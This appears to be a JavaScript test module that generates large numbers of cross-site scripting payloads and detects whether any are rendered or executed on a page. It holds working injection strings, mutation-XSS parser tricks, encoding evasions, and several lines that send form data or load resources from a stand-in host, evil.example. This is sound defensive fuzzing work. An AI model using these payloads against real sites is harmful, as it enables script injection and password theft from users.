// W11. What somebody may write so that a page does what they want, thousands of times over: a way out of where it stands, something
// that acts, and a spelling of both. Whatever a page makes of one has the mark `data-made`, and whatever acts says so.

/** Ways out of text, of either kind of attribute, and of every element that holds text alone. */
const EXITS = [
  "", `">`, "'>", ">", "`>", `\\">`, "-->", "--!>", "*/", "]]>", "?>", "%>", "}}", "</script>", "</style>", "</title>", "</textarea>", "</noscript>",
  "</template>", "</select>", "</iframe>", "</xmp>", "</svg>", "</math>", `"/></option></select>`, `'});//`, `";//`, "\u2028",
];

/** What acts: `JS` stands for what it runs, `_` for what separates the parts of a tag. */
const ACTS = [
  "<script_data-made>JS</script>", "<script_data-made_src=data:text/javascript,JS></script>", "<svg_data-made><script>JS</script></svg>",
  "<img_data-made_src=x_onerror=JS>", "<image_data-made_src=x_onerror=JS>", "<svg_data-made_onload=JS>", "<body_data-made_onload=JS>",
  "<video_data-made_src=x_onerror=JS></video>", "<video_data-made><source_onerror=JS></video>", "<audio_data-made_src=x_onerror=JS></audio>",
  "<input_data-made_autofocus_onfocus=JS>", "<select_data-made_autofocus_onfocus=JS></select>", "<textarea_data-made_autofocus_onfocus=JS></textarea>",
  "<button_data-made_autofocus_onfocus=JS>ok</button>", "<details_data-made_open_ontoggle=JS>x</details>", "<marquee_data-made_onstart=JS>x</marquee>",
  "<b_data-made_tabindex=1_autofocus_onfocus=JS>x</b>", "<b_data-made_onmouseover=JS>x</b>", "<b_data-made_style=animation:x_onanimationstart=JS>x</b>",
  "<b_data-made_contenteditable_oninput=JS>x</b>", "<b_data-made_onpointerrawupdate=JS>x</b>", "<p_data-made_oncontentvisibilityautostatechange=JS>x</p>",
  "<iframe_data-made_src=javascript:JS></iframe>", `<iframe_data-made_srcdoc="<script>parent.JS</script>"></iframe>`, "<iframe_data-made_onload=JS></iframe>",
  "<object_data-made_data=javascript:JS></object>", "<object_data-made_onerror=JS></object>", "<embed_data-made_src=javascript:JS>",
  "<a_data-made_href=javascript:JS>x</a>", "<a_data-made_href=data:text/html,<script>JS</script>>x</a>", "<a_data-made_ping=//evil.example_href=#>x</a>",
  "<svg_data-made><a_xlink:href=javascript:JS><text_y=9>x</text></a></svg>", "<svg_data-made><animate_onbegin=JS_attributeName=x_dur=1s>",
  "<svg_data-made><set_attributeName=href_to=javascript:JS>", "<svg_data-made><foreignObject><img_src=x_onerror=JS></foreignObject></svg>",
  "<svg_data-made><use_href=data:image/svg+xml,x>", "<math_data-made_href=javascript:JS>x</math>", "<math_data-made><maction_xlink:href=javascript:JS>x",
  "<form_data-made_action=javascript:JS><input_type=submit>", "<form_data-made><button_formaction=javascript:JS>x</button></form>",
  "<form_data-made_action=//evil.example><input_name=password>", "<base_data-made_href=//evil.example>", "<link_data-made_rel=stylesheet_href=//evil.example>",
  "<meta_data-made_http-equiv=refresh_content=0;url=javascript:JS>", "<style_data-made>@import_'//evil.example';</style>", "<style_data-made>body{display:none}</style>",
  "<dialog_data-made_open_onclose=JS>x</dialog>", "<div_data-made_popover_onbeforetoggle=JS>x</div>", "<template_data-made_shadowrootmode=open><img_src=x_onerror=JS></template>",
  // Attributes of the element that it stands in.
  `"_data-made_autofocus_onfocus="JS"_x="`, `'_data-made_onmouseover='JS'_x='`, "`_data-made_onclick=JS_x=`", "_data-made_onclick=JS_", `"_data-made_style="position:fixed"_x="`,
  // What scripts of a page make something of.
  `<b_data-made_hx-get=/sign-out_hx-trigger=load>x</b>`, `<b_data-made_hx-on:click=JS>x</b>`, `<b_data-made_hx-vals='js:{x:JS}'_hx-post=/x_hx-trigger=load>x</b>`,
  `<button_data-made_data-api="DELETE_/api/v1/keys/x">x</button>`, `<b_data-made_data-live="call">x</b>`, "{{constructor.constructor('JS')()}}", "${JS}", "#{JS}", "<%=_JS_%>",
  "{%_JS_%}", "[[${JS}]]", "{{{JS}}}", "@(JS)", "javascript:JS", "JAVASCRIPT:JS//", "java\tscript:JS", "vbscript:JS", "data:text/html,<script>JS</script>",
  `__proto__[innerHTML]=<img_data-made_src=x_onerror=JS>`, `{"__proto__":{"src":"data:,JS"}}`, `"+JS+"`, "'-JS-'", "`${JS}`", "\\u003cimg_data-made_src=x_onerror=JS\\u003e",
  // What a parser turns into something else when it reads its own output again.
  `<noscript><p_title="</noscript><img_data-made_src=x_onerror=JS>">`, `<math><mtext><table><mglyph><style><!--</style><img_title="--&gt;&lt;img_data-made_src=x_onerror=JS&gt;">`,
  `<svg></p><style><a_id="</style><img_data-made_src=x_onerror=JS>">`, `<form><math><mtext></form><form><mglyph><style></math><img_data-made_src_onerror=JS>`,
  `<math><annotation-xml_encoding="text/html"><style><img_data-made_src=x_onerror=JS></style>`, `<select><noembed></select><script_data-made>JS</script>`,
  `<!--><img_data-made_src=x_onerror=JS>-->`, `<!--<img_data-made_src="--><img_data-made_src=x_onerror=JS//">`, `<![CDATA[<img_data-made_src=x_onerror=JS>]]>`,
  `<?xml_version="1.0"?><img_data-made_src=x_onerror=JS>`, `<title><a_title="</title><img_data-made_src=x_onerror=JS>">`, `<textarea><img_title="</textarea><img_data-made_src=x_onerror=JS>">`,
  "<<img_data-made_src=x_onerror=JS>>", "<img_data-made_src=x_onerror=JS", "<img_data-made_src=x_onerror=JS//<", "</p_data-made_onclick=JS>", "<x:script_xmlns:x='http://www.w3.org/1999/xhtml'_data-made>JS</x:script>",
];

/** What it runs: a dialog that is noticed, or a word in the window. */
const SCRIPTS = ["alert(1)", "window.made=1", "alert`1`", "top.made=1", "confirm(1)", "prompt(1)", "self['al'+'ert'](1)", "import('data:text/javascript,made=1')"];

const points = (text, write) => [...text].map((char) => write(char.codePointAt(0))).join("");
const markup = (text, write) => text.replace(/[<>"'=&]/g, (char) => write(char.codePointAt(0)));

/** How it is spelled. */
const SPELLINGS = [
  (text) => text,
  (text) => text.replace(/<\/?[a-z]+|on[a-z]+(?==)/g, (name) => [...name].map((char, at) => (at % 2 ? char.toUpperCase() : char)).join("")),
  (text) => markup(text, (code) => `&#${code};`),
  (text) => markup(text, (code) => `&#x${code.toString(16)}`),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
  (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => markup(text, (code) => `\\u${code.toString(16).padStart(4, "0")}`),
  (text) => markup(text, (code) => `\\x${code.toString(16)}`),
  (text) => markup(text, (code) => `\\${code.toString(16)} `),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => points(text, (code) => String.fromCodePoint(code > 32 && code < 127 ? code + 0xfee0 : code)),
  (text) => text.replaceAll("<", "<\0").replaceAll("=", "\0="),
  (text) => text.replaceAll("<", "\u202e<\u202c").replaceAll("on", "o\u200bn"),
  (text) => text.replaceAll("<", "\ufeff<").replaceAll("script", "scr\u00adipt"),
  (text) => text.replaceAll("on", "\u{1d428}n").replaceAll("s", "\u017f"),
  (text) => text + "\u0301\u0489".repeat(8),
];
/** What separates the parts of a tag. */
const SPACES = [" ", "/", "\t", "\n", "\f", "/\r", " \u00a0", "  "];

/** So many different ones, of every exit, act and spelling. */
export function payloads(count) {
  const all = new Set();
  for (const [turn, spelled] of SPELLINGS.entries()) {
    for (const [at, act] of ACTS.entries()) {
      for (let step = 0; step * SPELLINGS.length * ACTS.length < count; step += 1) {
        const nth = turn + at + step;
        // Each act meets each exit in some spelling.
        const exit = EXITS[(at + turn * 3 + step * 11) % EXITS.length];
        const written = act.replaceAll("_", SPACES[nth % SPACES.length]).replaceAll("JS", SCRIPTS[nth % SCRIPTS.length]);
        all.add(spelled(exit + written));
      }
    }
  }
  return [...all];
}

/** What the API takes: it says of the others that they have characters that nobody sees. */
export const visible = (texts) => texts.filter((text) => !/[\p{Cc}\p{Cf}]/u.test(text));

/** As many fields of a length as hold all of these that fit into one. */
export function packed(texts, length) {
  const fields = [];
  for (const text of texts.filter((one) => one.length <= length)) {
    const last = fields.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= length) fields[fields.length - 1] = `${last} ${text}`;
    else fields.push(text);
  }
  return fields;
}

/** What of a text is kept: one line, without what cannot be seen. */
export function kept(text) {
  const unseen = /[\0\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/g;
  return text.replace(unseen, "").replace(/[\s\u0000-\u001f\u007f-\u009f]+/g, " ").trim();
}

/** Everything on a page that is not as we built it. */
export function made(page) {
  return page.evaluate(() => {
    const found = [...document.querySelectorAll("[data-made]")];
    for (const at of document.querySelectorAll("*")) {
      for (const { name, value } of at.attributes) {
        if (name.startsWith("on") || (["href", "src", "action", "formaction", "data-api"].includes(name) && /^\s*javascript:/i.test(value))) found.push(at);
      }
    }
    return [...found.map((one) => one.outerHTML.slice(0, 200)), ...(window.made === undefined ? [] : ["a script ran"])];
  });
}
